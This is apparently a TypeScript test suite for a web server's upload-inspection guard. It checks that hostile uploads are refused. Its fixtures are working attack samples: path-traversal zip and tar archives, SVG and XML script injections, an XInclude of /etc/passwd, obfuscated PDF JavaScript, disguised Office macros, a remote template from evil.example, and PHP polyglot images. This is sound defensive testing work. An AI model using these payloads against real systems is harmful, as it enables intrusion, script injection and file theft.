// CT7 through the front door: files that are something else to whoever opens them than to whoever looks at them.
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { type AddressInfo, createServer } from 'node:net'
import { after, before, suite, test } from 'node:test'
import { deflateSync, gzipSync } from 'node:zlib'
import { pngOf, tarOf, type ZipFile, zipOf } from '../inspection/uploads/archives.ts'
import { assertRefused, type Guarded, multipart, route, startGuarded } from './guarded.ts'

const small = Buffer.from('hello, this is a text\n')
const file = (name: string, more: Partial<ZipFile> = {}): ZipFile => ({ name, bytes: small, ...more })
const hidden = zipOf([file('../../evil.sh')]).subarray(0, -22) // a whole file with its head, and no end of an archive
const zip64 = Buffer.from(`504b0607${'00'.repeat(16)}`, 'hex')

function unicodeName(name: string): Buffer {
  const extra = Buffer.alloc(9 + Buffer.byteLength(name))
  extra.writeUInt16LE(0x7075, 0)
  extra.writeUInt16LE(5 + Buffer.byteLength(name), 2)
  extra[4] = 1
  extra.write(name, 9)
  return extra
}

function pax(...records: readonly string[]): Buffer {
  return Buffer.from(records.map((record) => `${record.length + 4} ${record}\n`).join(''))
}

/** A tar whose first head has another byte, and with it another sum or a sum that is wrong. */
function withWrongSum(tar: Buffer): Buffer {
  const at = tar.indexOf(Buffer.from('ustar'), 512)
  const copy = Buffer.from(tar)
  copy[at + 300 - 257] = 1
  return copy
}

const archives: Readonly<Record<string, Uint8Array>> = {
  'a file between the files that its directory knows': zipOf([
    file('a.txt'),
    file('../evil', { unlisted: true }),
    file('b.txt'),
  ]),
  'a file behind them': zipOf([file('a.txt'), file('../evil', { unlisted: true })]),
  'files, and a directory of none': zipOf([file('../evil', { unlisted: true })]),
  'a file behind the end of what is packed': zipOf([file('a.txt', { behind: hidden, flags: 8 })]),
  'another size in the head of a file': zipOf([file('a.txt', { headSaysBytes: 1 })]),
  'a name in Unicode that leads out': zipOf([file('a.txt', { extra: unicodeName('../../evil') })]),
  'a link': zipOf([file('a.txt', { mode: 0o120777 })]),
  'one name twice': zipOf([file('a.txt'), file('a.txt')]),
  'another directory, of ZIP64': zipOf([file('a.txt', { comment: zip64 })]),
  'an end in the comment of its end': Buffer.concat([
    commented(zipOf([file('a.txt')]), 30),
    Buffer.from('504b0506', 'hex'),
    Buffer.alloc(26),
  ]),
  'a tar whose last name leads out': tarOf([
    { name: 'pax', bytes: pax('path=a.txt', 'path=../../ev'), kind: 'x' },
    { name: 'a.txt', bytes: small },
  ]),
  'a tar that gives a size twice': tarOf([
    { name: 'pax', bytes: pax('size=512'), kind: 'x' },
    { name: 'a.txt', bytes: Buffer.alloc(0) },
  ]),
  'a tar with a folder that leads out': tarOf([{ name: '../../evil/', bytes: Buffer.alloc(0), kind: '5' }]),
  'a tar with a head that others skip': withWrongSum(
    tarOf([
      { name: 'a.txt', bytes: small },
      { name: 'b.txt', bytes: Buffer.concat([Buffer.alloc(512, 'x'), tarOf([{ name: '../../evil', bytes: small }])]) },
    ]),
  ),
  'a tar behind the end of a tar': Buffer.concat([
    tarOf([{ name: 'a.txt', bytes: small }]),
    tarOf([{ name: '../../evil', bytes: small }]),
  ]),
}

function commented(zip: Buffer, length: number): Buffer {
  const copy = Buffer.from(zip)
  copy.writeUInt16LE(length, copy.byteLength - 2)
  return copy
}

const space = 'xmlns="http://www.w3.org/2000/svg"'
const drawings: Readonly<Record<string, string>> = {
  'attributes by declaration': `<!DOCTYPE svg PUBLIC ">" "x" [<!ATTLIST svg onload CDATA "x()">]><svg ${space}/>`,
  'a handler far from its value': `<svg ${space} onload${' '.repeat(70)}="x()"/>`,
  'a prefix in other letters': `<svg ${space} xmlns:é.x="http://www.w3.org/2000/svg"><é.x:script>1</é.x:script></svg>`,
  'a reference with zeros': `<svg ${space}><a href="&#x0000006A;avascript:x()">x</a></svg>`,
  'line ends in an address': `<svg ${space}><a href="java&#10;&#10;script:x()">x</a></svg>`,
  'an address in an animation': `<svg ${space}><a><animate attributeName="href" values="x;javascript:x()"/></a></svg>`,
  'a picture from elsewhere behind a sign': `<svg ${space}><image class=">" href="https://evil.example"/></svg>`,
  'a style sheet in escapes': `<svg ${space}><style>@\\69mport "//evil.example"</style></svg>`,
  'an encoding with other letters': `<?xml version="1.0" encoding="ISO-2022-JP"?><svg ${space}><s\x1b(Bcript>1</s\x1b(Bcript></svg>`,
  'XHTML in XML': '<?xml version="1.0"?><r><x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="x()"/></r>',
  'a file of the server in XML':
    '<r><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></r>',
}

const objects = (head: string, content: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`${head}\nstream\n`), content, Buffer.from('\nendstream')])
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const flate = '/Filter /FlateDecode'
const documents: Readonly<Record<string, Buffer>> = {
  'objects under a name that is spelled otherwise': objects(`<< /Type /O#62jStm ${flate} >>`, deflateSync(script)),
  'objects behind a long dictionary': objects(
    `<< /Type /ObjStm /X (${'x'.repeat(2000)}) ${flate} >>`,
    deflateSync(script),
  ),
  'objects without a type': objects(`<< /N 1 /First 4 ${flate} >>`, deflateSync(script)),
  'objects that are packed twice': objects(
    '<< /Type /ObjStm /Filter [/FlateDecode /FlateDecode] >>',
    deflateSync(deflateSync(script)),
  ),
  'objects that are foretold': objects(
    `<< /Type /ObjStm ${flate} /DecodeParms << /Predictor 12 /Columns 1 >> >>`,
    deflateSync(Buffer.from([...script].flatMap((letter) => [0, letter.charCodeAt(0)]))),
  ),
}

const types = '[Content_Types].xml'
const word = (main: string, ...more: ZipFile[]): Buffer =>
  zipOf([
    file(types, {
      bytes: Buffer.from(
        `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${main}</Types>`,
      ),
    }),
    file('word/document.xml'),
    ...more,
  ])
const office: Readonly<Record<string, Buffer>> = {
  'macros under another name': word(
    '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.VBAPROJECT"/>',
    file('word/x.dat'),
  ),
  'a template that is fetched': word(
    '',
    file('word/_rels/settings.xml.rels', {
      bytes: Buffer.from(
        '<Relationships><Relationship Target="https://evil.example/t.dotm" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>',
      ),
    }),
  ),
}

suite('CT7: files that are something else to somebody', () => {
  let house: Guarded
  const closing: (() => unknown)[] = []

  before(async () => {
    const context = { after: (close: () => unknown) => void closing.push(close) } as never
    /** It finds something in the first file, of a name as signatures have them, and leaves at the second. */
    let scanned = 0
    const server = createServer((socket) => {
      socket.on('error', () => {})
      socket.on('data', (chunk) => {
        if (!chunk.subarray(-4).equals(Buffer.alloc(4))) return
        if (scanned++ === 0) socket.end('stream: {HEX}php.base64(v23)<au>.185 FOUND\0')
        else socket.destroy()
      })
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    closing.push(() => server.close())
    const all = ['image/*', 'application/*', 'text/*']
    const clamd = { address: `127.0.0.1:${(server.address() as AddressInfo).port}`, whenDown: 'allow' as const }
    house = await startGuarded(context, {
      inspection: { injection: 'off' },
      routes: [
        route('/files', {
          inspection: { uploads: { types: all, max: '10mb' }, bodyMax: '11mb', deadline: '10s' },
          bodyMax: '11mb',
        }),
        route('/scanned', { inspection: { uploads: { types: all, clamd } } }),
      ],
    })
  })
  after(async () => {
    for (const close of closing.reverse()) await close()
  })

  const send = (body: Uint8Array | string, filename = 'upload', type?: string) =>
    house.ask(
      '/files',
      multipart([{ name: 'file', filename, head: type === undefined ? '' : `Content-Type: ${type}\r\n`, body }]),
    )
  const assertRule = async (outcome: Awaited<ReturnType<typeof send>>, rule: string): Promise<void> => {
    assertRefused(outcome, 422, 'upload-refused')
    assert.match(String((await house.eventOf(outcome.id)).details['findings']), new RegExp(`upload/${rule}`))
  }

  for (const [rule, what, rows] of [
    ['archive', 'an archive with', archives],
    ['active', 'a drawing, or XML, with', drawings],
    ['active', 'an Office document with', office],
  ] as const)
    for (const [why, bytes] of Object.entries<Uint8Array | string>(rows))
      test(`CT7: ${what} ${why} is refused`, async () => assertRule(await send(bytes), rule))

  for (const [why, inside] of Object.entries(documents))
    test(`CT7: a script in a PDF is found in ${why}`, async () => {
      const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj\n'), inside, Buffer.from('\nendobj\ntrailer\n%%EOF\n')])
      await assertRule(await send(pdf), 'active')
    })

  test('CT7: megabytes of pictures in a PDF hold no script by chance', async () => {
    // three letters stand somewhere in sixteen megabytes: these do in each file
    const noise = Buffer.concat([randomBytes(1000), Buffer.from('/JS\x80/AA\x90'), randomBytes(1000)])
    const pdf = Buffer.concat([
      Buffer.from('%PDF-1.7\n1 0 obj\n'),
      objects('<< /Length 2008 >>', noise),
      Buffer.from('\nendobj\n%%EOF\n'),
    ])
    assert.equal((await send(pdf)).status, 200)
    const named = '%PDF-1.7\n1 0 obj\n<< /Font << /JS1 2 0 R /JavaScript-Bold 3 0 R >> >>\nendobj\n%%EOF\n'
    assert.equal((await send(named)).status, 200)
  })

  test('CT7: a picture that is said to be a program is refused, by whatever name it is kept', async () => {
    const picture = pngOf(1, 1)
    for (const type of ['text/html', 'TEXT/HTML; charset=x', 'text/javascript', 'application/x-httpd-php'])
      await assertRule(await send(picture, 'a.png', type), 'declared')
    for (const type of ['image/png', 'image/x-png', 'application/octet-stream'])
      assert.equal((await send(picture, 'a.png', type)).status, 200, type)
    for (const name of ['shell.php.png', 'shell.asp;.png', 'a.phtml.x.png'])
      await assertRule(await send(picture, name), 'name')
  })

  test('CT7: an archive at the end of a picture, a gzip file or a PDF is found, whatever follows it', async () => {
    const archive = zipOf([file('a.txt')])
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF\n')
    for (const first of [pngOf(1, 1), gzipSync(small), pdf])
      for (const last of ['', 'and more'])
        await assertRule(await send(Buffer.concat([first, archive, Buffer.from(last)])), 'twofold')
    await assertRule(await send(Buffer.concat([pngOf(1, 1), Buffer.alloc(5000), Buffer.from('<?php x();')])), 'twofold')
  })

  test('CT7: a GIF is measured by each of its frames, and an icon by the pictures in it', async () => {
    const gif = (width: number) => {
      const frame = Buffer.from('2c00000000000000000002024401003b', 'hex')
      frame.writeUInt16LE(width, 5)
      frame.writeUInt16LE(width, 7)
      return Buffer.concat([
        Buffer.from('47494638396101000100000000', 'hex'),
        Buffer.from('21f9040000000000', 'hex'),
        frame,
      ])
    }
    assert.equal((await send(gif(100))).status, 200)
    await assertRule(await send(gif(65_535)), 'pixels')
    const icon = (width: number) =>
      Buffer.concat([Buffer.from('00000100010001010000010020004000000016000000', 'hex'), pngOf(width, width)])
    assert.equal((await send(icon(100))).status, 200)
    await assertRule(await send(icon(60_000)), 'pixels')
  })

  test('CT7: an Office document of old is taken by the ending that people know', async () => {
    const old = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1016)])
    for (const name of ['letter.doc', 'table.xls', 'talk.ppt']) assert.equal((await send(old, name)).status, 200, name)
    await assertRule(await send(old, 'letter.txt'), 'extension')
  })

  test('CT7: a virus that was found is found, whatever it is called and whatever becomes of the files behind it', async () => {
    const outcome = await house.ask(
      '/scanned',
      multipart([
        { name: 'one', filename: 'a.txt', body: 'x' },
        { name: 'two', filename: 'b.txt', body: 'y' },
      ]),
    )
    assertRefused(outcome, 422, 'upload-refused')
    assert.deepEqual(outcome.problem.errors, { one: ['expected a file that does no harm'] })
  })
})
